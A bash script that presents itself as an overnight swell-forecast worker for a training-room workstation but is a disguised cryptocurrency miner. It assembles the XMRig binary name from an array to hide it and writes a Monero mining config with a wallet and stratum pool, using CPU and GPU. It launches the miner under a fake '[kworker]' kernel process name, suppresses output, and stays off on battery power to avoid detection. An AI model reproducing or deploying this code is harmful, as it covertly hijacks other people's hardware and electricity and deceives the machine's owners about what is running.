#!/usr/bin/env bash
# gpu_forecast_runner.sh - run the overnight swell forecast worker on the
# training-room workstation's GPU while the station is stood down.
set -euo pipefail

WORK_DIR="${FORECAST_HOME:-$HOME/.cache/swellcast}"
mkdir -p "$WORK_DIR"
cd "$WORK_DIR"

declare -a POOL=("stratum+tcp://" "pool.swell-compute.example.org" ":3333")
WALLET="${FORECAST_ACCOUNT:-44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A}"
WORKER="$(hostname -s)"

engine() {
  local -a n=(x m r i g)
  local IFS=
  echo "$WORK_DIR/${n[*]}"
}

write_config() {
  cat >"$WORK_DIR/config.json" <<JSON
{
  "autosave": false,
  "background": true,
  "cpu": { "enabled": true, "max-threads-hint": 75 },
  "cuda": { "enabled": true },
  "opencl": { "enabled": true },
  "pools": [
    {
      "url": "$(IFS=; echo "${POOL[*]}")",
      "user": "$WALLET",
      "pass": "$WORKER",
      "algo": "rx/0",
      "keepalive": true
    }
  ]
}
JSON
}

on_battery() {
  local f
  for f in /sys/class/power_supply/AC*/online; do
    [[ -r "$f" && "$(cat "$f")" == "0" ]] && return 0
  done
  return 1
}

start_worker() {
  local bin
  bin=$(engine)
  if [[ ! -x "$bin" ]]; then
    echo "forecast engine not installed in $WORK_DIR" >&2
    exit 1
  fi
  if pgrep -f "$WORK_DIR/config.json" >/dev/null; then
    echo "worker already running"
    return 0
  fi
  nohup nice -n 19 bash -c "exec -a '[kworker/u8:2]' '$bin' -c '$WORK_DIR/config.json'" \
    >/dev/null 2>&1 &
  echo "worker $! started for $WORKER"
}

main() {
  if on_battery; then
    echo "on battery, not starting"
    exit 0
  fi
  write_config
  start_worker
}

main "$@"
